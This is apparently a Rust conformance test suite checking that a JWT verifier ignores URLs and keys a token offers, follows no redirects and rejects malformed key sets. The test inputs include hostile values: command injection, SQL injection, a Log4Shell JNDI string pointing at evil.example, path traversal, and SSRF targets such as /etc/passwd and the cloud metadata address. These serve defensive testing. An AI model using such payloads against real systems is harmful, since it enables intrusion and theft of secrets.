//! Published attacks through what a verifier fetches: URLs and keys that a token offers, keys that come
//! from a failure, and key sets made to break their reader.
//!
//! A token is literal and the server's port is not known when it is minted. Here the server is also
//! the proxy of the verifier, and the tokens' URLs have the host that leads to the case's own folder
//! there: a fetch of any of them would be counted, and answered with the attacker's keys.

use serde_json::{Value, json};

use super::remote::{keys as served, rs};
use crate::canonical;
use crate::case::{Case, Suite, err, ok, rejected, used};
use crate::keys::{b64, from_pem, standard};
use crate::mint::{T0, Token, keys};

/// The header members and claims that somebody has been known to fetch, or to take a key from.
fn offers(host: &str) -> (Vec<String>, Vec<(&'static str, Value)>) {
    let url = format!("http://{host}/evil");
    let header = vec![
        format!(r#""jku":"{url}""#),
        format!(r#""x5u":"{url}""#),
        format!(r#""jku":["{url}"],"x5u":{{"url":"{url}"}}"#),
        format!(r#""jku":"{url}","x5u":"{url}","jwk":{{"kty":"RSA","jku":"{url}","x5u":"{url}"}}"#),
        format!(r#""x5c":["{url}"],"x5t":"{url}""#),
        format!(r#""iss":"http://{host}","jwks_uri":"{url}","jwks":"{url}""#),
        format!(r#""typ2":"{url}","url":"{url}","htu":"{url}","$ref":"{url}","@context":"{url}""#),
        format!(r#""cty":"{url}""#),
    ];
    let claims = vec![
        ("jku", json!(url)),
        ("x5u", json!(url)),
        ("jwks_uri", json!(url)),
        ("jwks", json!({ "$ref": url })),
        ("aud", json!(url)),
        ("azp", json!(url)),
        ("picture", json!(url)),
        ("_claim_sources", json!({ "src1": { "endpoint": url, "access_token": "x" } })),
        ("_claim_names", json!({ "roles": "src1" })),
        ("@context", json!(url)),
    ];
    (header, claims)
}

/// Good tokens that offer URLs, and forged ones whose key lies there: no request.
fn play(c: &mut Case, host: &str, good: &Token, forger: &str) {
    let (header, claims) = offers(host);
    for members in header {
        let token = good.clone().header_members(&members);
        c.verify(T0 + 2, &token, ok(&token)).fetches(0);
        c.verify(T0 + 2, &token.signed_by(forger), err("ERR_SIGNATURE_INVALID")).fetches(0);
    }
    for (name, value) in claims {
        let token = good.clone().claim(name, value);
        c.verify(T0 + 2, &token, ok(&token)).fetches(0);
    }
}

/// The attacker's answer beside the good one.
fn trap(good: &str, evil: &str) -> Value {
    let mut jwk = keys().form(&format!("{evil}.jwk"));
    jwk["kid"] = json!(good);
    json!({ "routes": { "/keys": served(&[good]), "/evil": { "jwks": { "keys": [jwk] } } } })
}

pub fn suite() -> Suite {
    let mut s = Suite::new("attack-network", "5", "Published attacks through what is fetched");
    urls(&mut s);
    embedded(&mut s);
    failures(&mut s);
    odd_sets(&mut s);
    s
}

fn urls(s: &mut Suite) {
    let proxied = || json!({ "proxy": "$proxy", "allowHttp": true });
    s.one("no-fetch-remote", "3.6", "no URL in a token is fetched by a verifier that fetches", |c| {
        let host = "no-fetch-remote.test";
        c.options(json!({ "jwksUri": format!("http://{host}/keys"), "jwks": proxied() })).serve(trap("rsa-a", "rsa-b"));
        let good = Token::new("rsa-a", "RS256");
        c.verify(T0, &good, ok(&good)).fetches(1);
        // The one fetch that a token may cause is spent: from here on every request would be another's.
        c.verify(T0 + 1, &good.clone().kid(Some("spent")), err("ERR_KEY_NOT_FOUND")).fetches(1);
        play(c, host, &good, "rsa-b");
    });
    s.one("no-fetch-remote-cold", "3.6", "a first token that offers URLs causes the one configured fetch", |c| {
        let host = "no-fetch-remote-cold.test";
        c.options(json!({ "jwksUri": format!("http://{host}/keys"), "jwks": proxied() })).serve(trap("rsa-a", "rsa-b"));
        let url = format!("http://{host}/evil");
        let token = Token::new("rsa-a", "RS256").header_members(&format!(r#""jku":"{url}","x5u":"{url}""#));
        c.verify(T0, &token, ok(&token)).fetches(1);
        c.verify(T0, &token.signed_by("rsa-b"), err("ERR_SIGNATURE_INVALID")).fetches(1);
        c.verify(T0, &Token::new("rsa-b", "RS256").kid(Some(&url)), err("ERR_KEY_NOT_FOUND")).fetches(0);
    });
    for (id, options, key, alg, forger) in [
        ("pem", json!({ "publicKey": used("p256-a.pem") }), "p256-a", "ES256", "p256-b"),
        (
            "jwk-set",
            json!({ "publicKey": { "keys": [used("rsa-a.jwk"), used("ed-a.jwk")] } }),
            "rsa-a",
            "RS256",
            "rsa-b",
        ),
        ("secret", json!({ "secret": used("hmac-32.secret") }), "hmac-32", "HS256", "hmac-32-b"),
    ] {
        s.one(
            &format!("no-fetch-{id}"),
            "3.6",
            "no URL in a token is fetched by a verifier with keys of its own",
            |c| {
                let host = format!("no-fetch-{id}.test");
                c.options(options).options(json!({ "jwks": proxied() }));
                if id != "secret" {
                    c.serve(trap(key, forger));
                }
                play(c, &host, &Token::new(key, alg), forger);
                let url = format!("http://{host}/evil");
                let token = Token::new(key, alg).claim("iss", url.clone());
                c.verify(T0 + 3, &token, ok(&token)).fetches(0);
            },
        );
    }
    s.one(
        "no-fetch-issuers",
        "4 issuers",
        "an iss that is not configured leads nowhere, even to a host that is",
        |c| {
            let host = "no-fetch-issuers.test";
            let issuer = format!("http://{host}");
            c.options(json!({ "issuers": [
            { "issuer": issuer, "discover": true, "jwks": proxied() },
            { "issuer": "https://b.example", "publicKey": used("p256-b.jwk") },
        ] }));
            c.serve(json!({ "routes": {
            "/.well-known/openid-configuration": { "jwks": { "issuer": issuer, "jwks_uri": format!("{issuer}/keys") } },
            "/keys": served(&["rsa-a"]),
        } }));
            let by = |iss: &str| Token::new("rsa-a", "RS256").claim("iss", iss);
            for iss in [
                format!("{issuer}/"),
                format!("{issuer}/evil"),
                format!("{issuer}/.well-known/openid-configuration"),
                format!("{issuer}?x"),
                format!("{issuer}#x"),
                format!("{issuer}:80"),
                format!("http://user@{host}"),
                format!("https://{host}"),
                format!("HTTP://{host}"),
                format!("http://{host}."),
                format!("//{host}"),
                format!("http://sub.{host}"),
                "file:///etc/passwd".to_owned(),
                "http://169.254.169.254/latest/meta-data".to_owned(),
                "https://b.example/../".to_owned(),
            ] {
                c.verify(T0, &by(&iss), rejected("iss")).fetches(0);
            }
            let good = by(&issuer);
            // Each fetch asks for the document and for the set that it names.
            c.verify(T0, &good, ok(&good)).fetches(2);
            c.verify(T0 + 1, &good.clone().kid(Some("spent")), err("ERR_KEY_NOT_FOUND")).fetches(2);
            play(c, host, &good, "rsa-b");
            play(c, host, &Token::new("p256-b", "ES256").claim("iss", "https://b.example"), "p256-a");
        },
    );
    s.one(
        "no-fetch-kid-in-url",
        "5 selection",
        "a kid is a name: no part of a URL, a path or a query is made of it",
        |c| {
            let host = "no-fetch-kid-in-url.test";
            c.options(json!({ "jwksUri": format!("http://{host}/keys"), "jwks": proxied() }))
                .serve(trap("rsa-a", "rsa-b"));
            let good = Token::new("rsa-a", "RS256");
            c.verify(T0, &good, ok(&good)).fetches(1);
            for (at, kid) in [
                format!("http://{host}/evil"),
                "../evil".to_owned(),
                "/evil".to_owned(),
                "evil?".to_owned(),
                "?kid=evil".to_owned(),
                "%2e%2e/evil".to_owned(),
                "#evil".to_owned(),
                "rsa-a/../evil".to_owned(),
                "file:///etc/passwd".to_owned(),
                "../../../../dev/null".to_owned(),
                "x' UNION SELECT 'key' --".to_owned(),
                "| cat /etc/passwd".to_owned(),
                "${jndi:ldap://evil.example/x}".to_owned(),
                canonical::text(&keys().form("rsa-b.jwk")),
            ]
            .into_iter()
            .enumerate()
            {
                let token = Token::new("rsa-b", "RS256").kid(Some(&kid));
                c.verify(T0 + 1, &token, err("ERR_KEY_NOT_FOUND")).fetches(u32::from(at == 0));
            }
            c.verify(T0 + 2, &good, ok(&good)).fetches(0);
        },
    );
    for (id, location) in [
        ("same-host", "$origin/evil"),
        ("file", "file:///etc/passwd"),
        ("metadata", "http://169.254.169.254/"),
        ("user-info", "http://a@127.0.0.1/"),
    ] {
        s.one(&format!("no-redirect-{id}"), "5 responses", "a redirect is not followed", |c| {
            c.options(json!({ "jwksUri": "$jwks" }));
            let moved = |status: u16| json!({ "status": status, "headers": { "location": location } });
            c.serve(json!({ "routes": { "": moved(302), "/evil": served(&["rsa-a"]) } }));
            c.verify(T0, &rs(), err("ERR_KEYS_UNAVAILABLE")).fetches(1);
            c.serve(json!({ "routes": { "": moved(308), "/evil": served(&["rsa-a"]) } }));
            c.verify(T0 + 2, &rs(), err("ERR_KEYS_UNAVAILABLE")).fetches(1);
        });
    }
}

/// Keys inside the token.
fn embedded(s: &mut Suite) {
    s.each("embedded-keys", "3.6", "no key that a token brings along is used, in whatever member", |c, k| {
        let token = k.token();
        c.verify(T0, &token, ok(&token));
        let header = |members: &str| token.clone().header_members(members).signed_by(k.stranger());
        let stranger = keys().key(k.stranger());
        let mut members =
            vec![format!(r#""k":"{}""#, b64("attacker's secret, 32 bytes long!")), r#""x5c":[]"#.to_owned()];
        if k.name == "secret" {
            let secret = b64(stranger.secret());
            members.push(format!(r#""jwk":{{"kty":"oct","k":"{secret}"}}"#));
            members.push(format!(r#""jwk":{{"kty":"oct","k":"{secret}","kid":"{}","alg":"HS256"}}"#, k.key));
            members.push(format!(r#""secret":"{secret}","oct":"{secret}""#));
        } else {
            let mut jwk = stranger.public_jwk();
            let plain = canonical::text(&jwk);
            jwk["kid"] = json!(k.key);
            let named = canonical::text(&jwk);
            members.push(format!(r#""jwk":{plain}"#));
            members.push(format!(r#""jwk":{named}"#));
            members.push(format!(r#""jwks":{{"keys":[{named}]}},"keys":[{named}]"#));
            members.push(format!(r#""jwk":{}"#, Value::from(named.as_str())));
            members.push(format!(r#""x5c":["{}"]"#, standard(stranger.spki())));
            members.push(format!(r#""epk":{named},"publicKey":{named}"#));
        }
        if let Some(certificate) = keys().certificate(k.stranger()) {
            let der = standard(from_pem(certificate));
            members.push(format!(r#""x5c":["{der}"]"#));
            members.push(format!(r#""x5c":["{der}","{der}"],"x5t":"AAAA""#));
        }
        for members in members {
            c.verify(T0, &header(&members), err("ERR_SIGNATURE_INVALID"));
        }
    });
    s.one("embedded-certificate", "3.6", "a certificate in the header proves nothing, for a set or a key", |c| {
        let certificate = standard(from_pem(keys().certificate("rsa-a").expect("a certificate")));
        c.options(json!({ "publicKey": { "keys": [used("rsa-b.jwk")] } }));
        let good = Token::new("rsa-b", "RS256");
        c.verify(T0, &good, ok(&good));
        for kid in ["rsa-b", "rsa-a"] {
            let header = format!(r#"{{"alg":"RS256","kid":"{kid}","x5c":["{certificate}"]}}"#);
            let code = if kid == "rsa-b" { "ERR_SIGNATURE_INVALID" } else { "ERR_KEY_NOT_FOUND" };
            c.verify(T0, &Token::new("rsa-a", "RS256").header(header), err(code));
        }
        let header = format!(r#"{{"alg":"RS256","x5c":["{certificate}"]}}"#);
        c.verify(T0, &Token::new("rsa-a", "RS256").header(header), err("ERR_SIGNATURE_INVALID"));
    });
}

/// No key comes from a failure.
fn failures(s: &mut Suite) {
    for (id, answer) in [
        ("refused", json!({ "down": true })),
        ("500", json!({ "status": 500 })),
        ("404", json!({ "status": 404 })),
        ("empty-set", json!({ "jwks": { "keys": [] } })),
        ("no-set", json!({ "body": "{}" })),
        ("empty", json!({ "body": "" })),
        ("private-key", json!({ "jwks": { "keys": [used("rsa-a.private")] } })),
        ("error-with-keys", json!({ "status": 500, "jwks": { "keys": [used("rsa-a.jwk")] } })),
    ] {
        s.one(
            &format!("no-keys-from-{id}"),
            "5 cold",
            "a failed fetch yields no key, by default or from the token",
            |c| {
                c.options(json!({ "jwksUri": "$jwks" })).serve(answer);
                c.verify(T0, &rs(), err("ERR_KEYS_UNAVAILABLE")).fetches(1);
                for name in ["rsa-a", "rsa-b"] {
                    let jwk = canonical::text(&keys().form(&format!("{name}.jwk")));
                    let token = Token::new(name, "RS256").header_members(&format!("\"jwk\":{jwk}"));
                    c.verify(T0, &token, err("ERR_KEYS_UNAVAILABLE")).fetches(0);
                    c.verify(T0, &Token::new(name, "PS256").kid(None), err("ERR_KEYS_UNAVAILABLE")).fetches(0);
                }
                c.verify(T0, &Token::new("p256-a", "ES256"), err("ERR_KEYS_UNAVAILABLE")).fetches(0);
                c.verify(T0, &rs().signature([0; 256]), err("ERR_KEYS_UNAVAILABLE")).fetches(0);
                c.verify(T0, &rs().header(r#"{"alg":"none"}"#), err("ERR_ALG_NOT_ALLOWED")).fetches(0);
                c.verify(T0, &Token::new("hmac-32", "HS256").hmac(""), err("ERR_ALG_NOT_ALLOWED")).fetches(0);
            },
        );
    }
    s.one("removed-key-cached", "5 removed", "a key removed from the set takes its cached tokens with it", |c| {
        c.options(json!({ "jwksUri": "$jwks" })).serve(served(&["rsa-a", "p256-a"]));
        let (one, other) = (rs().claim("n", 1), rs().claim("n", 2));
        for token in [&one, &other, &one] {
            c.verify(T0, token, ok(token));
        }
        c.serve(served(&["p256-a"]));
        c.verify(T0 + 550, &one, ok(&one)).fetches(1);
        c.verify(T0 + 551, &one, err("ERR_KEY_NOT_FOUND")).fetches(1);
        c.verify(T0 + 552, &other, err("ERR_KEY_NOT_FOUND")).fetches(0);
        c.serve(json!({ "down": true }));
        c.verify(T0 + 700, &one, err("ERR_KEYS_UNAVAILABLE")).fetches(1);
        c.verify(T0 + 701, &other, err("ERR_KEY_NOT_FOUND")).fetches(0);
    });
    s.one("flood-of-kids", "5 cooldown", "kids without number cause one fetch per cooldown and clear nothing", |c| {
        c.options(json!({ "jwksUri": "$jwks" })).serve(served(&["rsa-a"]));
        c.verify(T0, &rs(), ok(&rs())).fetches(1);
        for at in 0..25_u32 {
            let token = rs().kid(Some(&format!("flood-{at}")));
            c.verify(T0 + 100, &token, err("ERR_KEY_NOT_FOUND")).fetches(u32::from(at == 0));
            c.verify(T0 + 100, &rs(), ok(&rs())).fetches(0);
        }
        c.serve(json!({ "status": 500 }));
        c.verify(T0 + 140, &rs().kid(Some("flood")), err("ERR_KEYS_UNAVAILABLE")).fetches(1);
        for at in 0..5 {
            c.verify(T0 + 141, &rs().kid(Some(&format!("more-{at}"))), err("ERR_KEY_NOT_FOUND")).fetches(0);
            c.verify(T0 + 141, &rs(), ok(&rs())).fetches(0);
        }
    });
}

/// Key sets that broke their readers.
fn odd_sets(s: &mut Suite) {
    let deep = |levels: usize| {
        let mut value = json!(1);
        for _ in 0..levels {
            value = json!([value]);
        }
        value
    };
    s.one("odd-keys", "5 selection", "odd keys are skipped one by one, and the good one serves", |c| {
        let text = |name: &str| keys().form(&format!("{name}.jwk"));
        let with = |name: &str, member: &str, value: Value| {
            let mut jwk = text(name);
            jwk["kid"] = json!("odd");
            jwk[member] = value;
            jwk
        };
        let mut set = vec![
            json!({}),
            json!(null),
            json!([]),
            json!(""),
            json!(0),
            json!(true),
            json!({ "kty": null }),
            json!({ "kty": [] }),
            json!({ "kty": "RSA" }),
            json!({ "kty": "EC", "crv": "P-256" }),
            json!({ "kty": "OKP" }),
            json!({ "kty": "AKP", "alg": "ML-DSA-44" }),
            json!({ "kty": "EC", "crv": "P-256", "x": "", "y": "" }),
            json!({ "kty": "RSA", "n": "", "e": "" }),
            json!({ "kty": "RSA", "n": "AA", "e": "AA" }),
            json!({ "kty": "oct", "k": "" }),
            json!({ "kty": "oct", "k": null }),
            json!({ "kty": "RSA\u{0}" }),
        ];
        for member in ["kid", "alg", "use", "key_ops", "n", "e", "kty"] {
            for value in [json!(null), json!(1), json!({}), json!([1]), json!("\u{0}")] {
                // A null or odd text of kid, n or e is told apart from one that is absent.
                set.push(with("rsa-a", member, value));
            }
        }
        for member in ["x", "y", "crv"] {
            for value in [json!(null), json!(""), json!("AAAA"), json!(["AAAA"]), json!("A".repeat(5000))] {
                set.push(with("p256-a", member, value));
            }
        }
        let zero = b64([0; 32]);
        set.push(json!({ "kty": "EC", "crv": "P-256", "kid": "odd", "x": zero, "y": zero }));
        set.push(json!({ "kty": "RSA", "kid": "odd", "n": b64([0; 256]), "e": "AQAB" }));
        set.push(json!({ "kty": "RSA", "kid": "odd", "n": b64([0xff; 256]), "e": b64([0xff; 64]) }));
        set.push(used("p521.jwk"));
        c.options(json!({ "jwksUri": "$jwks" })).serve(json!({ "jwks": { "keys": set } }));
        let good = Token::new("p521", "ES512");
        c.verify(T0, &good, ok(&good)).fetches(1);
        c.verify(T0 + 1, &Token::new("p256-a", "ES256").kid(Some("odd")), err("ERR_KEY_NOT_FOUND"));
        c.verify(T0 + 2, &good, ok(&good)).fetches(0);
    });
    for (id, body) in [
        ("deep-key", json!({ "keys": [used("rsa-a.jwk"), { "kty": "RSA", "x5c": deep(100) }] })),
        ("deep-beside", json!({ "x": deep(100), "keys": [used("rsa-a.jwk")] })),
        ("many-keys", json!({ "keys": vec![json!({}); 5000] })),
    ] {
        s.one(
            &format!("odd-set-{id}"),
            "5 responses",
            "a set out of bounds is no set, and the one before it serves",
            |c| {
                c.options(json!({ "jwksUri": "$jwks" })).serve(json!({ "jwks": body.clone() }));
                c.verify(T0, &rs(), err("ERR_KEYS_UNAVAILABLE")).fetches(1);
                c.serve(served(&["rsa-a"]));
                c.verify(T0 + 2, &rs(), ok(&rs())).fetches(1);
                c.serve(json!({ "jwks": body }));
                c.verify(T0 + 702, &rs(), ok(&rs())).fetches(1);
            },
        );
    }
}
